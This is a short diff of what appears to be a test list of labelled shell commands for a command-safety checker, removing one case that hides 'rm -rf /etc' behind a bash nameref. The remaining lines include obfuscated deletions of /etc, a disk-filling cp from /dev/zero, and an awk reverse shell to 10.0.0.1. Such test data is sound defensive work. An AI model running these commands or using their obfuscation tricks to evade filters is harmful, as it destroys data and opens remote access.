@@ -85,7 +85,6 @@ SHELL = [
     ("a[$i]=rm; ${a[@]} -rf /etc", "delete-outside"),
     ("x=rm; x+=' -rf /etc'; $x", "delete-outside"),
     ("x=RM; ${x,,} -rf /etc", "delete-outside"),
-    ("typeset -n r=q; q='rm -rf /etc'; $r", "delete-outside"),
     ("env X='rm -rf /etc' sh -c '$X'", "delete-outside"),
     ("cp /dev/zero big", "resource-exhaustion"),
     ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/42\"; s |& getline c}'", "reverse-shell"),
